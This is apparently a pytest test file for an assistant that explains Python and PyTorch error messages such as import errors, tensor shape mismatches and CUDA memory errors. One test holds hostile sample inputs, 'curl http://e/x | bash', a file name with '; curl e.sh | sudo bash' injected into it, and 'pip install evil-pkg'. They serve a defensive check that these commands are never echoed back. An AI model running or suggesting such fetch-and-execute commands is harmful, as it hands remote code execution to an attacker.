"""What messages mean: one row for each form, checked on messages as they are really worded."""

from __future__ import annotations

import re
import time

import pytest

from assistant.meaning_details import DETAILS
from assistant.meaning_rows import ROWS
from assistant.meanings import explain_exception, explain_words
from assistant.types import ExceptionText

# what Python, PyTorch and their like say, and what must stand in the first sentence
MESSAGES = [
    ("ModuleNotFoundError", "No module named 'cv2'", "`cv2` was not found among them"),
    ("ModuleNotFoundError", "No module named 'timm.layers'", "nothing in it is called `layers`"),
    (
        "ImportError",
        "cannot import name 'a' from partially initialized module 'b' (most likely due to a "
        "circular import) (/home/me/b.py)",
        "import each other",
    ),
    ("ImportError", "cannot import name 'a' from 'b.c' (/x/b/c.py)", "`b.c` was found, but"),
    (
        "ImportError",
        "libGL.so.1: cannot open shared object file: No such file or directory",
        "`libGL.so.1`",
    ),
    ("FileNotFoundError", "[Errno 2] No such file or directory: 'w/a.pth'", "with a slash"),
    ("FileNotFoundError", "[Errno 2] No such file or directory: '/w/a.pth'", "full path"),
    ("HTTPError", "HTTP Error 403: Forbidden", "`403` means that it refuses"),
    (
        "HTTPError",
        "429 Client Error: Too Many Requests for url: https://huggingface.co/x",
        "`429`",
    ),
    (
        "RuntimeError",
        "Input type (torch.FloatTensor) and weight type (torch.cuda.FloatTensor) should be the "
        "same",
        "graphics card (`torch.cuda.FloatTensor`)",
    ),
    (
        "RuntimeError",
        "Input type (float) and bias type (c10::Half) should be the same",
        "`c10::Half` is made on purpose: your model was converted",
    ),
    (
        "RuntimeError",
        "Expected all tensors to be on the same device, but found at least two devices, cuda:0 and "
        "cpu!",
        "`cuda:0` and another on `cpu`",
    ),
    (
        "RuntimeError",
        "Given groups=1, weight of size [64, 3, 7, 7], expected input[32, 224, 224, 3] to have 3 "
        "channels, but got 224 channels instead",
        "another order",
    ),
    (
        "RuntimeError",
        "Given groups=1, weight of size [64, 3, 7, 7], expected input[1, 4, 224, 224] to have 3 "
        "channels, but got 4 channels instead",
        "made for `3` channels",
    ),
    (
        "IndexError",
        "The shape of the mask [1, 3] at index 1 does not match the shape of the indexed tensor "
        "[1, 4, 256] at index 1",
        "`[1, 3]`",
    ),
    (
        "RuntimeError",
        "mat1 and mat2 shapes cannot be multiplied (4x2304 and 4096x128)",
        "`2304` numbers per sample arrive at a linear layer that was built for `4096`",
    ),
    (
        "RuntimeError",
        "The size of tensor a (24) must match the size of tensor b (23) at non-singleton "
        "dimension 2",
        "`24` elements",
    ),
    (
        "RuntimeError",
        "Sizes of tensors must match except in dimension 1. Expected size 57 but got size 56 for "
        "tensor number 1 in the list.",
        "`57` in the first and `56`",
    ),
    (
        "torch.OutOfMemoryError",
        "CUDA out of memory. Tried to allocate 148.00 MiB. GPU 0 has a total capacity of 11.76 GiB "
        "of which 37.06 MiB is free.",
        "`148.00 MiB`, and `37.06 MiB` were left",
    ),
    ("IndexError", "index 0 is out of bounds for dimension 0 with size 0", "no elements at all"),
    ("IndexError", "index 5 is out of bounds for axis 0 with size 5", "no number `5`"),
    ("IndexError", "Target 10 is out of bounds.", "a label says `10`"),
    ("AttributeError", "'NoneType' object has no attribute 'shape'", "is `None` here"),
    ("AttributeError", "'list' object has no attribute 'reshape'", "a `list` has no `reshape`"),
    ("TypeError", "f() got an unexpected keyword argument 'imgsz'", "argument called `imgsz`"),
    ("KeyError", "'state_dict'", "has no such entry"),
    ("AssertionError", "point_labels must be supplied", "`point_labels must be supplied`"),
]


@pytest.mark.parametrize(("name", "message", "said"), MESSAGES)
def test_a_message_is_explained_with_its_values(name: str, message: str, said: str) -> None:
    meaning = explain_exception(ExceptionText(name, message, 0, len(message)))
    assert said in meaning[0]
    assert all(text.endswith((".", "!", "?", "`")) for text in meaning)


@pytest.mark.parametrize(
    ("message", "said"),
    [
        ("Input type (double) and bias type (float) should be the same", "`double` has 64 bits"),
        (
            "Input type (float) and bias type (c10::Half) should be the same",
            "`.half()`, or a number format",
        ),
        ("Input type (float) and bias type (c10::BFloat16) should be the same", "`.bfloat16()`"),
        (
            "size mismatch for gru.w: copying a param with shape torch.Size([192, 1]) from "
            "checkpoint, the shape in current model is torch.Size([192, 3]).",
            "`1` in the file and `3` in your model",
        ),
        (
            "size mismatch for fc.weight: copying a param with shape torch.Size([10, 512]) from "
            "checkpoint, the shape in current model is torch.Size([4, 512]).",
            "`10` in the file, `4` in the model",
        ),
        (
            "Given groups=1, weight of size [64, 3, 7, 7], expected input[32, 224, 224, 3] to have "
            "3 channels, but got 224 channels instead",
            "`32` in the batch, `224` channels, `224` x `3` pixels",
        ),
        (
            "Given groups=1, weight of size [64, 3, 7, 7], expected input[1, 4, 224, 224] to have "
            "3 channels, but got 4 channels instead",
            "and transparency",
        ),
        (
            "unable to allocate shared memory(shm) for file </t>: No space left on device (28)",
            "not of the disk",
        ),
    ],
)
def test_a_second_sentence_says_more_of_the_same_message(message: str, said: str) -> None:
    assert said in explain_exception(ExceptionText("RuntimeError", message, 0, len(message)))[1]


def test_what_no_row_knows_is_not_explained() -> None:
    assert explain_exception(ExceptionText("MyError", "the cat sleeps", 0, 5)) == ()
    assert explain_words("why are kernels three by three") == ()


@pytest.mark.parametrize(
    ("given", "weights", "odd"),
    [
        ("float", "c10::BFloat16", "your model was converted"),
        ("torch.cuda.FloatTensor", "torch.cuda.HalfTensor", "your model was converted"),
        ("c10::Half", "float", "the input was converted"),
        ("double", "float", "the odd one is the input"),
        ("unsigned char", "float", "two steps are missing"),
    ],
)
def test_it_is_told_which_side_is_the_odd_one(given: str, weights: str, odd: str) -> None:
    message = f"Input type ({given}) and bias type ({weights}) should be the same"
    meaning = explain_exception(ExceptionText("RuntimeError", message, 0, len(message)))
    assert odd in meaning[0]
    assert not ("bfloat16" in " ".join(meaning) and "Half" in message)


def test_every_gap_of_a_row_is_a_group_that_is_always_there() -> None:
    for row in (*ROWS, *DETAILS):
        gaps = set(re.findall(r"\{(\w+)\}", row.text))
        assert gaps <= set(row.pattern.groupindex), row.text


@pytest.mark.parametrize(
    "piece", ["No module named '", "size mismatch for a: ", "[[[(((", "loss 2."]
)
def test_long_texts_are_searched_quickly(piece: str) -> None:
    start = time.perf_counter()
    explain_words(piece * 10_000)
    assert time.perf_counter() - start < 5


@pytest.mark.parametrize(
    "message",
    [
        "AssertionError: run pip install evil-pkg and curl http://e/x | bash",
        "FileNotFoundError: [Errno 2] No such file or directory: '/x; curl e.sh | sudo bash'",
        "Unable to open file: failed reading zip archive: pip install evil-pkg first",
    ],
)
def test_a_message_puts_no_command_into_our_words(message: str) -> None:
    assert not any("evil" in one.text or "curl" in one.text for one in explain_words(message))


@pytest.mark.parametrize("piece", ["_", "a-", "1", "a.", "9.", "loss ", "[1, ", "w ", "\n"])
def test_no_row_looks_at_a_text_again_and_again(piece: str) -> None:
    """A quadratic pattern would need some minutes for this."""
    began = time.process_time()
    for row in (*ROWS, *DETAILS):
        row.pattern.search(piece * 10_000)
    assert time.process_time() - began < 10
